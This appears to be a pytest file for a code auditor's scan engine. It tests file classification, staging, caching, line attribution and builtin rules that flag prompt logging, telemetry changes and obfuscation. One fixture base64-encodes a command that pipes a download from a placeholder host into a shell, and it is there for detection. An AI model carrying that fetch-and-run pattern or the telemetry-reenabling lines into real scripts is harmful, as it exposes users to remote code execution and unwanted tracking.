"""Small pieces of the scan engine without external tools: file classes, staging names, the
builtin scanner's rules, the cache's atomic entries and attribution of line ranges."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from auditor.model import Category, Severity
from auditor.provenance.blame import UNEXPLAINED
from auditor.scan.builtin import BuiltinScanner
from auditor.scan.cache import CacheEntry, ResultCache, cache_key
from auditor.scan.files import classify, family_of, split_lines, staged_name
from auditor.scan.interface import FileError, Origin, RawFinding, ScanTarget
from auditor.scan.scope import attribute
from auditor.scan.staging import stage


@pytest.mark.parametrize(("path", "head", "family"), [
    ("a/x.py", "", "python"),
    ("k/net.cu", "", "cuda"),
    ("k/net.cuh", "", "cuda"),
    ("inc/x.h", "", "c"),
    ("docker/Dockerfile.cuda", "", "dockerfile"),
    ("Containerfile", "", "dockerfile"),
    ("deploy/compose.yaml", "", "yaml"),
    ("bin/run", "#!/bin/bash\necho", "bash"),
    ("bin/tool", "#!/usr/bin/env python3\n", "python"),
    ("README.md", "# hi", None),
    # Markdown about the Dockerfile (vLLM's docs/contributing/dockerfile/dockerfile.md, seen on
    # the real ROCm/vllm fork) is a docs file, not a Dockerfile variant
    ("docs/contributing/dockerfile/dockerfile.md", "# Dockerfile", None),
    ("docker/Dockerfile.rocm_base", "FROM x", "dockerfile"),
    ("docker/Dockerfile.cpu", "FROM x", "dockerfile"),
    ("docker/dockerfile.yaml", "a: 1", "yaml"),
])
def test_family_of(path: str, head: str, family: str | None):
    assert family_of(path, head) == family


def test_staged_names_semgrep_recognises():
    assert staged_name("a/x.py", "python") == "a/x.py"
    assert staged_name("k/net.cu", "cuda") == "k/net.cu.cpp"
    assert staged_name("docker/Dockerfile", "dockerfile") == "docker/Dockerfile"
    assert staged_name("docker/Dockerfile.cuda", "dockerfile") == "docker/Dockerfile.cuda.dockerfile"
    assert staged_name("bin/run", "bash") == "bin/run.sh"


def test_staging_keeps_paths_and_avoids_collisions(tmp_path: Path):
    a = ScanTarget("b:run", "run", Origin.BUNDLE, "", "bash", "echo a\n")
    b = ScanTarget("b:run.sh", "run.sh", Origin.BUNDLE, "", "bash", "echo b\n")
    u = ScanTarget("u:run.sh", "run.sh", Origin.UPSTREAM, "", "bash", "echo u\n")
    staged = stage([b, a, u], tmp_path)
    assert staged["b/run.sh"] is b and staged["u/run.sh"] is u
    (other,) = [k for k, v in staged.items() if v is a]
    assert other.endswith("/run.sh") and (tmp_path / other).read_text() == "echo a\n"


def test_classify_binary_text_and_undecodable():
    assert classify("w.bin", b"abc").skipped
    assert classify("x.dat", b"ab\0cd").skipped
    assert classify("x.py", b"caf\xe9").error
    ok = classify("x.py", "é = 1\n".encode())
    assert ok.text == "é = 1\n" and ok.family == "python" and len(ok.sha256) == 64


def test_split_lines_counts_newlines_only():
    assert split_lines("a\x0cb\nc\r\nd") == ["a\x0cb", "c", "d"]
    assert split_lines("a\n") == ["a"]


def _target(text: str, path: str = "scripts/run.sh", family: str | None = "bash") -> ScanTarget:
    return ScanTarget(f"b:{path}", path, Origin.BUNDLE, "", family, text)


def test_builtin_rules():
    scanner = BuiltinScanner(["--enable-log-requests", "VLLM_LOGGING_LEVEL=DEBUG"],
                             {"VLLM_NO_USAGE_STATS": "1", "DO_NOT_TRACK": "1"})
    # an encoded program (encoded data is no claim: tests/scan/test_scan_obfuscation_intent.py)
    blob = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 4).decode()
    text = "\n".join([
        "# --enable-log-requests in a comment is documentation",
        "vllm serve m --enable-log-requests",
        "export VLLM_LOGGING_LEVEL=DEBUG",
        "export DO_NOT_TRACK=1",
        "export VLLM_NO_USAGE_STATS=0",
        "unset DO_NOT_TRACK",
        f"P={blob}",
        "URL=https://example.com/a/b/c",
    ]) + "\n"
    t = _target(text)
    found = scanner.scan([t], Path("/nonexistent")).findings[t.key]
    assert [(f.line, f.category) for f in found] == [
        (2, Category.PROMPT_LOGGING), (3, Category.PROMPT_LOGGING), (5, Category.TELEMETRY),
        (6, Category.TELEMETRY), (7, Category.OBFUSCATION)]
    py = _target('ok = os.environ.get("DO_NOT_TRACK", "0") == "1"\n'
                 'os.environ["DO_NOT_TRACK"] = "0"\n', "engine/x.py", "python")
    found = scanner.scan([py], Path("/nonexistent")).findings[py.key]
    assert [(f.line, f.category) for f in found] == [(2, Category.TELEMETRY)]


def test_cache_round_trip_and_corruption(tmp_path: Path):
    cache = ResultCache(tmp_path)
    key = cache_key("a.py", "0" * 64, "semgrep", "1.0", "opts")
    assert cache.get(key) is None
    f = RawFinding("network.python.x", Category.NETWORK, Severity.HIGH, 3, 4, "m", "h")
    cache.put(key, CacheEntry(findings=(f,)))
    assert cache.get(key) == CacheEntry(findings=(f,))
    # a passing error (timeout) is not stored; a lasting one (parse error) is
    k2 = cache_key("b.py", "1" * 64, "semgrep", "1.0", "opts")
    cache.put(k2, CacheEntry((), FileError("timeout")))
    assert cache.get(k2) is None
    cache.put(k2, CacheEntry((), FileError("parse error", lasting=True)))
    assert cache.get(k2) == CacheEntry((), FileError("parse error", lasting=True))
    # a torn or foreign file is a miss
    entry = next((tmp_path / "scan").rglob(f"{key}.json"))
    entry.write_text("{not json")
    assert cache.get(key) is None
    assert not list((tmp_path / "scan").rglob(".tmp-*"))
    assert cache_key("a.py", "0" * 64, "semgrep", "1.1", "opts") != key


def test_attribution_first_series_line_in_range():
    origins = [None, "c1", None, "c2", UNEXPLAINED]
    assert attribute(origins, 1, 1).touches_series is False
    assert attribute(origins, 1, 4).commit == "c1"
    assert attribute(origins, 3, 5).commit == "c2"
    a = attribute(origins, 5, 5)
    assert a.touches_series and a.unexplained and a.commit is None
    assert attribute(None, 1, 3).touches_series is False


def test_stage_requested_only_with_a_scan_section(tmp_path: Path):
    from support import simple_case, write_spec

    from auditor.scan.stage import ScanStage
    from auditor.spec import load_spec

    case = simple_case(tmp_path)
    without = load_spec(write_spec(tmp_path / "a.toml", case["spec"]))
    with_scan = load_spec(write_spec(tmp_path / "b.toml", {**case["spec"], "scan": {}}))
    assert not ScanStage().requested(without)
    assert ScanStage().requested(with_scan)
